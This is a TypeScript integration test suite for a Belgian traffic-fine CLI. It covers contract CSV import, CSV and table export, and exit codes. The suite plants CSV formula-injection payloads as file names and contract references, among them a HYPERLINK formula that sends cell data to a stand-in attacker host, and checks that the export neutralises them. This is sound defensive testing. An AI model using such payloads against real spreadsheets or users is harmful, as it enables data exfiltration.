// The outputs and messages a user sees, through the real path: hostile file names mailed through
// Dovecot and hostile contract references imported with the real `boete contracts import` end up in
// the export; the CSV is opened as a spreadsheet would and no cell may start a formula. The table
// fits 120 columns without colour codes in a pipe and accounts for every mail. Exit codes of the
// real CLI process: 0 done, 2 bad input or usage.
import { spawn } from 'node:child_process';
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { count, like } from 'drizzle-orm';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { contracts } from '../../db/schema.js';
import { checkContractCsv } from '../../src/contracts/contract-csv.js';
import { bytesSource, type ByteSource } from '../../src/contracts/csv-text.js';
import { importCheckedContractFile } from '../../src/contracts/import-contracts.js';
import { brusselsInstant } from '../../src/domain/brussels-time.js';
import type { IsoDate } from '../../src/domain/calendar-date.js';
import { InputError } from '../../src/errors.js';
import { runOnce } from '../../workers/runtime.js';
import { buildMail } from '../../fixtures/fine-mail.js';
import { makeFine } from '../../fixtures/fine-truth.js';
import { renderFinePdf } from '../../fixtures/render-fine-pdf.js';
import { ADMIN_URL, PG_BASE } from '../support/services.js';
import { createTestEnv, type TestEnv } from '../support/test-env.js';

const BIN = path.resolve(import.meta.dirname, '../../bin/boete.mjs');
const d = (s: string) => s as IsoDate;
const HEADER = 'client;contract_ref;plate;starts_at;ends_at;fine_policy;renter_type;renter_name;renter_address;renter_birth_date;renter_company_number;renter_email;admin_fee_cents';
const FORMULA_START = /^[=+\-@\t\r\n]/;

type Run = { code: number | null; stdout: string; stderr: string };
function boete(args: string[], env: Record<string, string>): Promise<Run> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [BIN, ...args], { env: { ...process.env, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (b: Buffer) => (stdout += b.toString()));
    child.stderr.on('data', (b: Buffer) => (stderr += b.toString()));
    child.on('exit', (code) => resolve({ code, stdout, stderr }));
  });
}

const hostileNames = ['=HYPERLINK("evil.example?d="&A1,"klik").pdf', '+32 470 cmd.pdf', '-2+3+cmd.pdf', '@SUM(1+1)cmd.pdf'];
const hostileRefs = ['=HYPERLINK("http://evil.example/?d="&A1;"klik")', '+AC-1', '-AC-2', '@AC-3'];
const fines = hostileNames.map((_, i) =>
  makeFine('be-police-nl', 300 + i, { plateAsPrinted: `1-INJ-00${i}`, offenceDate: d('2026-11-10'), documentDate: d('2026-11-18') }),
);

let t: TestEnv;
let dir: string;
let importRun: Run;

beforeAll(async () => {
  t = await createTestEnv();
  dir = await mkdtemp(path.join(tmpdir(), 'boete-cli-'));
  await t.setupAcme({ at: brusselsInstant(d('2026-11-01'), 9, 0), defaultFinePolicy: 'recharge' });
  // A Belgian Excel export: ";" separated, Windows-1252, CRLF; Excel quotes the value with ";" and '"'.
  const rows = hostileRefs.map((ref, i) => {
    const cell = /[;"]/.test(ref) ? `"${ref.replace(/"/g, '""')}"` : ref;
    return `acme;${cell};1-INJ-00${i};2026-01-01T00:00;;recharge;person;Françoise Müller;Kerkstraat ${i};1980-01-0${i + 1};;;`;
  });
  await writeFile(path.join(dir, 'contracts.csv'), Buffer.from(`${HEADER}\r\n${rows.join('\r\n')}\r\n`, 'latin1'));
  importRun = await boete(['contracts', 'import', path.join(dir, 'contracts.csv')], t.env);

  const user = t.imapUser('acme');
  for (const [i, fine] of fines.entries()) {
    const raw = await buildMail({ from: 'backoffice@acme-rent.be', to: 'acme@fines.example.com', attachments: [{ filename: hostileNames[i]!, content: await renderFinePdf(fine) }] });
    await t.appendMail(user, raw, brusselsInstant(d('2026-11-20'), 9, i));
  }
  await t.appendMail(user, await buildMail({ from: 'backoffice@acme-rent.be', to: 'acme@fines.example.com', text: 'Hebben jullie mijn vorige mail ontvangen?' }), brusselsInstant(d('2026-11-20'), 10, 0));
  const { ctx } = t.app();
  await runOnce(ctx);
}, 180_000);

afterAll(async () => t?.dispose());

describe('contracts import through the CLI', () => {
  it('reads a ";" separated Windows-1252 file right and says how it read it', async () => {
    expect(importRun.stderr).toBe('');
    expect(importRun.code).toBe(0);
    expect(importRun.stdout).toContain('(read as Windows-1252, separator ";"): 4 contract(s): 4 created');
    const { ctx } = t.app();
    const stored = await ctx.db.select({ name: contracts.renterName, ref: contracts.contractRef }).from(contracts);
    expect(stored.map((s) => s.name)).toEqual(Array(4).fill('Françoise Müller'));
    expect(stored.map((s) => s.ref).sort()).toEqual([...hostileRefs].sort());
  });

  it('refuses a file with a bad last row: exit 2, the error names file, line, field, value and what is allowed, nothing imported', async () => {
    const file = path.join(dir, 'bad.csv');
    const good = Array.from({ length: 2500 }, (_, i) => `acme;BULK-${i};1-BLK-${String(i).padStart(3, '0')};2026-01-01;;;;;;;;;`);
    await writeFile(file, `${HEADER}\n${good.join('\n')}\nacme;BULK-X;1-BLK-999;2026-01-01;;Redirect;;;;;;;\n`);
    const r = await boete(['contracts', 'import', file], t.env);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`${file} line 2502, fine_policy "Redirect": expected redirect, recharge or empty`);
    const { ctx } = t.app();
    const [n] = await ctx.db.select({ n: count() }).from(contracts).where(like(contracts.contractRef, 'BULK-%'));
    expect(n?.n).toBe(0);
  });

  it('rolls the whole file back when a row fails after earlier batches were written (one transaction)', async () => {
    const good = Array.from({ length: 2500 }, (_, i) => `acme;ROLL-${i};1-ROL-${String(i).padStart(3, '0')};2026-01-01;;;;;;;;;`).join('\n');
    const checkedText = `${HEADER}\n${good}\nacme;ROLL-LAST;1-ROL-999;2026-01-01;;;;;;;;;\n`;
    // The second read differs from the one that was checked (the file was edited in between).
    let opened = 0;
    const source: ByteSource = {
      name: 'rolled.csv',
      open: () => (opened++ === 0 ? bytesSource('rolled.csv', checkedText) : bytesSource('rolled.csv', checkedText.replace('acme;ROLL-LAST', 'nosuch;ROLL-LAST'))).open(),
    };
    const checked = await checkContractCsv(source);
    const { ctx } = t.app();
    await expect(importCheckedContractFile(ctx.db, source, checked, new Date())).rejects.toBeInstanceOf(InputError);
    const [n] = await ctx.db.select({ n: count() }).from(contracts).where(like(contracts.contractRef, 'ROLL-%'));
    expect(n?.n).toBe(0);
  });
});

describe('export --format csv, opened as a spreadsheet would', () => {
  let cells: string[][];
  let header: string[];
  beforeAll(async () => {
    const r = await boete(['export', '--format', 'csv'], t.env);
    expect(r.code).toBe(0);
    [header = [], ...cells] = parse(r.stdout) as string[][];
  });

  it('has the hostile file names and contract references, each behind a single quote', () => {
    const col = (name: string) => cells.map((row) => row[header.indexOf(name)]);
    const filenames = col('filename');
    expect(filenames).toHaveLength(4);
    for (const f of filenames) expect(f).toMatch(/^'[=+\-@]/);
    expect(col('contractRef').sort()).toEqual(hostileRefs.map((r) => `'${r}`).sort());
  });

  it('has no cell that starts with a formula character, whether split on "," or on ";"', async () => {
    for (const cell of [...header, ...cells.flat()]) expect(cell).not.toMatch(FORMULA_START);
    const r = await boete(['export', '--format', 'csv'], t.env);
    const bySemicolon = parse(r.stdout, { delimiter: ';', relax_quotes: true, relax_column_count: true }) as string[][];
    for (const cell of bySemicolon.flat()) expect(cell).not.toMatch(FORMULA_START);
  });
});

describe('export --format table', () => {
  let out: string;
  beforeAll(async () => {
    const r = await boete(['export', '--format', 'table'], t.env);
    expect(r.code).toBe(0);
    out = r.stdout;
  });

  it('fits a 120-column terminal and has no colour codes when stdout is not a terminal', () => {
    expect(out).not.toContain('\u001b');
    for (const line of out.split('\n')) expect([...line].length, line).toBeLessThanOrEqual(120);
  });

  it('shows the references, every mail (the question-only mail as "no document") and a legend', () => {
    for (const f of fines) expect(out).toContain(f.reference);
    expect(out).toContain('no document');
    expect(out).toContain('5 mail(s): 4 document(s), 1 mail(s) without a document');
    expect(out).toMatch(/^kind: F fine/m);
    expect(out).toMatch(/^liability \(who bears late costs\): /m);
  });
});

describe('messages and exit codes of the CLI', () => {
  it('export --client nosuch: unknown client, exit 2', async () => {
    const r = await boete(['export', '--format', 'json', '--client', 'nosuch'], t.env);
    expect(r.code).toBe(2);
    expect(r.stderr.trim()).toBe('boete: unknown client "nosuch"; known: acme');
  });

  it.each([
    [['frob'], /unknown command 'frob'/],
    [['export', '--format', 'json', '--bogus'], /unknown option '--bogus'/],
    [['export', '--format', 'xml'], /Allowed choices are json, csv, table/],
    [['export'], /required option '--format <format>' not specified/],
    [['contracts', 'import'], /missing required argument 'file'/],
  ])('usage error %j: exit 2', async (args, message) => {
    const r = await boete(args, t.env);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(message);
  });

  it('--version prints the package version, exit 0', async () => {
    const r = await boete(['--version'], t.env);
    expect(r.code).toBe(0);
    expect(r.stdout.trim()).toMatch(/^\d+\.\d+\.\d+$/);
  });

  it('migrate says when it created the database, and that it is up to date the second time', async () => {
    const name = `${t.id}_fresh`;
    const env = { ...t.env, DATABASE_URL: `${PG_BASE}/${name}` };
    try {
      const first = await boete(['migrate'], env);
      expect(first.code).toBe(0);
      expect(first.stdout).toMatch(new RegExp(`^created database "${name}" and applied \\d+ migration\\(s\\)`));
      const second = await boete(['migrate'], env);
      expect(second.stdout.trim()).toBe(`database "${name}" is up to date`);
    } finally {
      const admin = new pg.Client({ connectionString: ADMIN_URL });
      await admin.connect();
      await admin.query(`DROP DATABASE IF EXISTS ${name} WITH (FORCE)`);
      await admin.end();
    }
  });

  it('parse --json prints instants with the Brussels offset, like the export', async () => {
    const file = path.join(dir, 'boete.pdf');
    await writeFile(file, await renderFinePdf(fines[0]!));
    const r = await boete(['parse', file, '--json'], t.env);
    expect(r.code).toBe(0);
    const json = JSON.parse(r.stdout) as { fields: { offenceAt: { value: string } } };
    expect(json.fields.offenceAt.value).toMatch(/^2026-11-10T\d{2}:\d{2}:\d{2}\+01:00$/);
  });
});

